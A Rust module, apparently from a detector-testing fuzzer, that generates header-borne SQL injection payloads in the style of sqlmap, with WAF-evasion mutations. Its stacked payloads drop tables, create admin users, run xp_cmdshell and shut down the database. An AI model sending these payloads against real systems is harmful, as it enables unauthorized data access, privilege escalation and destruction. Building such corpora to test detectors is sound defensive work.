//! SQL injection in request headers, the way sqlmap tests them (`--level 3..5`): the payload is
//! appended to the header's ordinary value (a browser User-Agent, a Referer URL, an IP in
//! X-Forwarded-For, a cookie value, an id in a custom header). Techniques: boolean, UNION,
//! time-based, stacked and error-based, each built from parts (context break × technique ×
//! expression × terminator), then mutated with inline comments, random case and whitespace.

use crate::mutate::{join, random_case};
use crate::{Carrier, Family, Rng, Variant};

pub struct SqliHeader;

/// Where the payload travels, with the value it is appended to.
const CARRIERS: &[(&str, &[&str])] = &[
    (
        "user-agent",
        &[
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
            "curl/8.5.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X)",
            "",
        ],
    ),
    ("referer", &["https://shop.example.com/item?id=3", "https://www.example.org/", "http://intranet.local/search?q=x", ""]),
    ("x-forwarded-for", &["203.0.113.7", "10.0.0.5, 198.51.100.2", "127.0.0.1", ""]),
    ("cookie", &["lang=en; uid=", "session=9f8e7d; cart=", "id=", ""]),
    ("x-user-id", &["42", "1001", ""]),
    ("x-api-version", &["2", "v1", ""]),
    ("x-tenant", &["acme", "7", ""]),
    ("x-real-ip", &["192.0.2.10", ""]),
    ("x-requested-with", &["XMLHttpRequest", ""]),
];

const BREAKS: &[&str] = &["'", "\"", "')", "\")", "'))", ")", "", "`", "' ", "%' "];
const TERMINATORS: &[&str] = &["-- -", "--", "#", "/*", ";--", ";%00", "-- x", ""];

pub(crate) fn num(rng: &mut Rng) -> String {
    rng.range(1, 9999).to_string()
}

pub(crate) fn boolean(rng: &mut Rng) -> String {
    let n = num(rng);
    let op = *rng.pick(&["OR", "AND", "OR", "||", "&&", "XOR"]);
    let cond = match rng.below(7) {
        0 => format!("{n}={n}"),
        1 => format!("'{0}'='{0}'", (b'a' + rng.below(26) as u8) as char),
        2 => format!("{n} LIKE {n}"),
        3 => format!("{n}>{}", rng.range(0, 9)),
        4 => "TRUE".to_string(),
        5 => format!("{n} BETWEEN {} AND {}", rng.range(0, 5), rng.range(10000, 20000)),
        _ => format!(
            "ASCII(SUBSTRING((SELECT {}),1,1))>{}",
            rng.pick(&["user()", "database()", "@@version", "current_user"]),
            rng.range(40, 120)
        ),
    };
    format!("{op} {cond}")
}

pub(crate) fn union(rng: &mut Rng) -> String {
    let cols = rng.range(1, 8);
    let leak = rng.below(cols);
    let items: Vec<String> = (0..cols)
        .map(|i| {
            if i == leak {
                rng.pick(&[
                    "@@version",
                    "version()",
                    "user()",
                    "database()",
                    "CONCAT(0x7e,user(),0x7e)",
                    "group_concat(table_name)",
                    "CHAR(113,118,122)",
                    "current_user",
                ])
                .to_string()
            } else {
                rng.pick(&["NULL", "NULL", "1", "'a'", "0x41"]).to_string()
            }
        })
        .collect();
    let from = *rng.pick(&["", " FROM information_schema.tables", " FROM users", " FROM dual", " FROM sysobjects"]);
    let all = if rng.chance(0.5) { " ALL" } else { "" };
    format!("UNION{all} SELECT {}{from}", items.join(","))
}

pub(crate) fn time(rng: &mut Rng) -> String {
    let s = rng.range(2, 15);
    let op = *rng.pick(&["AND", "OR", "AND"]);
    match rng.below(8) {
        0 => format!("{op} SLEEP({s})"),
        1 => format!("{op} (SELECT {n} FROM (SELECT(SLEEP({s}))){v})", n = num(rng), v = rng.pick(&["x", "a", "qlTb"])),
        2 => format!("; WAITFOR DELAY '0:0:{s}'"),
        3 => format!("{op} {s}=(SELECT {s} FROM PG_SLEEP({s}))"),
        4 => format!("|| pg_sleep({s})"),
        5 => format!("{op} {n}=BENCHMARK({m}000000,MD5({n}))", n = num(rng), m = rng.range(1, 9)),
        6 => format!("{op} IF(1=1,SLEEP({s}),0)"),
        _ => format!("{op} {n}=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(66),{s})", n = num(rng)),
    }
}

pub(crate) fn stacked(rng: &mut Rng) -> String {
    match rng.below(6) {
        0 => format!("; DROP TABLE {}", rng.pick(&["users", "sessions", "orders"])),
        1 => format!("; INSERT INTO users(name,role) VALUES('{}','admin')", rng.pick(&["x", "eve", "root"])),
        2 => format!("; EXEC xp_cmdshell('{}')", rng.pick(&["whoami", "ping 10.0.0.1", "dir c:\\"])),
        3 => format!("; SELECT pg_sleep({})", rng.range(2, 9)),
        4 => "; UPDATE users SET role='admin' WHERE id=1".to_string(),
        _ => "; SHUTDOWN".to_string(),
    }
}

pub(crate) fn error(rng: &mut Rng) -> String {
    let leak = *rng.pick(&["version()", "user()", "database()", "@@version", "(SELECT table_name FROM information_schema.tables LIMIT 1)"]);
    let op = *rng.pick(&["AND", "OR"]);
    match rng.below(6) {
        0 => format!("{op} EXTRACTVALUE({n},CONCAT(0x7e,{leak}))", n = num(rng)),
        1 => format!("{op} UPDATEXML({n},CONCAT(0x7e,{leak},0x7e),{n})", n = num(rng)),
        2 => format!("{op} {n}=CONVERT(int,{leak})", n = num(rng)),
        3 => format!("{op} {n}=CAST({leak} AS int)", n = num(rng)),
        4 => format!(
            "{op} (SELECT {n} FROM(SELECT COUNT(*),CONCAT({leak},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)",
            n = num(rng)
        ),
        _ => format!("{op} EXP(~(SELECT * FROM (SELECT {leak})x))"),
    }
}

/// Spaces between tokens replaced by an inline comment form.
fn comments(rng: &mut Rng, text: &str) -> String {
    let form = *rng.pick(&["/**/", "/*x*/", "/*!*/", "/**_**/"]);
    let mut out = text.replace(' ', form);
    if rng.chance(0.4) {
        for kw in ["UNION", "SELECT", "SLEEP"] {
            out = out.replace(kw, &format!("/*!50000{kw}*/"));
        }
    }
    out
}

/// Spaces replaced by other whitespace a header may carry (no CR/LF: they would end it).
fn whitespace(rng: &mut Rng, text: &str) -> String {
    let ws: &str = rng.pick::<&str>(&["\t", "  ", " \t", "\u{b}", "\u{c}", "+"]);
    text.replace(' ', ws)
}

impl Family for SqliHeader {
    fn name(&self) -> &'static str {
        "sqli-header"
    }

    fn detector(&self) -> &'static str {
        "sqli"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let (header, bases) = *rng.pick(CARRIERS);
        let base = *rng.pick(bases);
        let technique = rng.below(5);
        let (name, body) = match technique {
            0 => ("boolean", boolean(rng)),
            1 => ("union", union(rng)),
            2 => ("time", time(rng)),
            3 => ("stacked", stacked(rng)),
            _ => ("error", error(rng)),
        };
        let brk = if name == "stacked" { *rng.pick(&["'", "", "')", "\""]) } else { *rng.pick(BREAKS) };
        let lead = if brk.ends_with(' ') { "" } else { " " };
        let term = *rng.pick(TERMINATORS);
        let mut payload = format!("{brk}{lead}{body}{}{term}", if term.is_empty() { "" } else { " " });
        let mut names = vec![name];
        if rng.chance(0.35) {
            payload = comments(rng, &payload);
            names.push("comment");
        } else if rng.chance(0.35) {
            payload = whitespace(rng, &payload);
            names.push("whitespace");
        }
        if rng.chance(0.5) {
            payload = random_case(rng, &payload);
            names.push("case");
        }
        let mut value = format!("{base}{payload}");
        if header == "cookie" {
            // Cookie values cannot carry `;`, `,` or spaces: sqlmap URL-encodes them.
            value = format!("{base}{}", payload.replace('%', "%25").replace(';', "%3B").replace(',', "%2C").replace(' ', "%20"));
            names.push("url");
        }
        Variant { family: self.name(), mutation: join(&names), payload: value, carrier: Carrier::Header(header) }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn variants_are_many_and_in_headers() {
        let v = crate::sample(&SqliHeader, 7, 2000);
        let distinct: std::collections::HashSet<&str> = v.iter().map(|x| x.payload.as_str()).collect();
        assert!(distinct.len() > 1500, "{}", distinct.len());
        assert!(v.iter().all(|x| matches!(x.carrier, Carrier::Header(_)) && !x.payload.contains(['\r', '\n'])));
    }
}
